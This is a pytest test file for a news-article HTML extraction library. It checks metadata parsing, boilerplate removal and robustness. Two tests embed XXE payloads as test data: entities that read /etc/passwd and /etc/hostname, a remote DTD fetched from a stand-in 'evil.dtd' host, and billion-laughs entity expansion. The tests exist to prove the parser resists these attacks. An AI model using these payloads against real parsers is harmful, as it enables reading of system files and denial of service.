"""extract_html: the same pipeline on the DOM, metadata from markup, hostile HTML."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from newscorpus import Corpus, extract_html
from newscorpus.htmlblocks import parse_html
from newscorpus.meta import strip_site_name

PARAS = [
    "The old bridge over the river reopened on Monday after two years of repairs and delays.",
    "Engineers replaced the steel deck and strengthened the piers against the spring floods.",
    "Traffic is expected to return to normal levels by the end of the week, the council said.",
]


def page(head: str = "", body_top: str = "", article_extra: str = "") -> str:
    paragraphs = "".join(f"<p>{p}</p>" for p in PARAS)
    return (
        f"<html lang='en'><head>{head}</head><body>"
        "<nav class='main-menu'><ul><li><a href='/'>Home</a></li><li><a href='/w'>World</a></li></ul></nav>"
        f"{body_top}<article><h1>Bridge reopens after repairs</h1>{article_extra}{paragraphs}</article>"
        "<aside class='related'><h3>Related</h3><ul><li><a href='/x'>Ferry fares rise</a></li></ul></aside>"
        "<div class='comments'><p>Great news, I drove across it this morning and it was very smooth indeed.</p></div>"
        "<footer><p>© 2024 Valley Courier. All rights reserved.</p></footer></body></html>"
    )


def test_body_is_the_article_paragraphs() -> None:
    art = extract_html(page())
    assert art.paragraphs == tuple(PARAS)
    rules = {r.text: r.rule for r in art.removed}
    assert rules["Home"] in {"dom-boilerplate", "nav-item"}
    assert rules["World"] in {"dom-boilerplate", "nav-item", "nav-run"}
    assert "Great news" not in art.text and "Ferry fares" not in art.text


def test_jsonld_wins_over_meta_and_time_element() -> None:
    head = (
        '<script type="application/ld+json">{"@context": "https://schema.org", "@graph": ['
        '{"@type": "WebSite", "name": "Valley Courier"},'
        '{"@type": "NewsArticle", "headline": "Bridge reopens after repairs",'
        '"datePublished": "2024-03-04T09:15:00+01:00",'
        '"dateModified": "2024-03-05T10:00:00+01:00", "author": [{"@type": "Person", "name": "Ann Lee"},'
        '{"@type": "Person", "name": "Tom Park"}], "publisher": {"@type": "Organization", "name": "Valley Courier"},'
        '"articleSection": "Local", "inLanguage": "en-GB"}]}</script>'
        '<meta property="article:published_time" content="2024-03-01T00:00:00Z">'
    )
    art = extract_html(page(head=head, article_extra="<time datetime='2024-02-01'>1 Feb</time>"))
    assert art.published is not None and art.published.isoformat() == "2024-03-04T09:15:00+01:00"
    assert art.modified is not None and art.modified.day == 5
    assert art.authors == ("Ann Lee", "Tom Park")
    assert art.source == "Valley Courier" and art.section == "Local" and art.language == "en"
    assert art.provenance["published"].source == "html:json-ld"


def test_organisation_author_and_meta_fallbacks() -> None:
    head = (
        '<script type="application/ld+json">{"@type": "NewsArticle", "author": {"@type": "Organization",'
        ' "name": "Reuters"}}</script><meta property="og:site_name" content="Valley Courier">'
        '<meta property="og:title" content="Bridge reopens after repairs | Valley Courier">'
    )
    art = extract_html(page(head=head))
    assert art.authors == ("Reuters",)
    assert art.title == "Bridge reopens after repairs"


def test_title_suffix_is_stripped() -> None:
    art = extract_html(
        page(
            head="<title>Bridge reopens after repairs - Valley Courier</title>"
            "<meta property='og:site_name' content='Valley Courier'>"
        )
    )
    assert art.title == "Bridge reopens after repairs"
    assert strip_site_name("Valley Courier | Bridge reopens", "Valley Courier") == "Bridge reopens"


def test_broken_jsonld_and_malformed_markup_do_not_stop_extraction() -> None:
    html = page(
        head='<script type="application/ld+json">{"@type": "NewsArticle", "headline": </script>'
    )
    html = html.replace("</p>", "", 1).replace("<article>", "<article><div><span>")
    art = extract_html(html)
    assert PARAS[1] in art.text


def test_hostile_html() -> None:
    deep = "<div>" * 100_000 + f"<p>{PARAS[0]}</p>" + "</div>" * 100_000
    assert extract_html(deep).text == PARAS[0]
    entities = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">'
        '<!ENTITY ext SYSTEM "file:///etc/passwd">]><html><body><p>&b;&ext; '
        + PARAS[0]
        + "</p></body></html>"
    )
    text = extract_html(entities).text
    assert "root:" not in text and "aaaa" not in text
    big = (
        "<html><body>"
        + "".join(f"<p>{PARAS[i % 3]} Item {i}.</p>" for i in range(40_000))
        + "</body></html>"
    )
    assert len(extract_html(big).paragraphs) > 30_000
    assert extract_html("").text == "" and extract_html("<<<>>>").text == ""
    assert parse_html("\x00\x01 binary-ish <p>text</p>").blocks[-1].text == "text"


def test_fifty_megabyte_page_with_huge_text_nodes() -> None:
    # libxml2 drops a text node over 10 MB and what follows it unless told not to.
    script = "<script>" + "var a = 1;" * 3_000_000 + "</script>"
    long_para = "<p>" + (PARAS[1] + " ") * 250_000 + "</p>"
    html = f"<html><head>{script}</head><body>{long_para}<p>{PARAS[0]}</p></body></html>"
    assert len(html) > 50_000_000
    art = extract_html(html)
    assert art.paragraphs[-1] == PARAS[0]
    assert "var a" not in art.text


def test_deep_but_parseable_nesting_and_deep_inline_tags() -> None:
    deep = "<div>" * 2_000 + page() + "</div>" * 2_000
    assert extract_html(deep).paragraphs == tuple(PARAS)
    inline = "<p>" + "<b>" * 100_000 + PARAS[0] + "</b>" * 100_000 + "</p>"
    assert PARAS[0] in extract_html(inline).text


def test_external_dtd_and_entities_never_touch_the_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    html = (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd" [<!ENTITY % remote SYSTEM '
        '"http://example.invalid/evil.dtd"> %remote; <!ENTITY xxe SYSTEM "file:///etc/hostname">'
        '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        + page(article_extra="<p>&xxe;&lol2;</p>")
    )
    art = extract_html(html)
    assert art.paragraphs == tuple(PARAS)
    assert "lollol" not in art.text


def test_broken_and_mislabelled_encodings_load(tmp_path: Path) -> None:
    russian = "Городской совет одобрил новый план защиты от наводнений во вторник вечером."
    body = f"<html><head><meta charset='{{}}'></head><body><p>{russian}</p></body></html>"
    (tmp_path / "a.html").write_bytes(body.format("utf-8").encode("cp1251"))  # lies
    (tmp_path / "b.html").write_bytes(body.format("windows-1252").encode("utf-8"))  # lies
    broken = body.format("utf-8").encode("utf-8")
    (tmp_path / "c.html").write_bytes(broken[:120] + b"\xff\xfe\xc3" + broken[120:])
    (tmp_path / "d.html").write_bytes(body.format("nonsense-charset").encode("utf-16"))
    corpus = Corpus.load(tmp_path, errors="skip")
    texts = [a.text for a in corpus]
    assert len(texts) == 4
    assert sum(russian in t for t in texts) >= 3
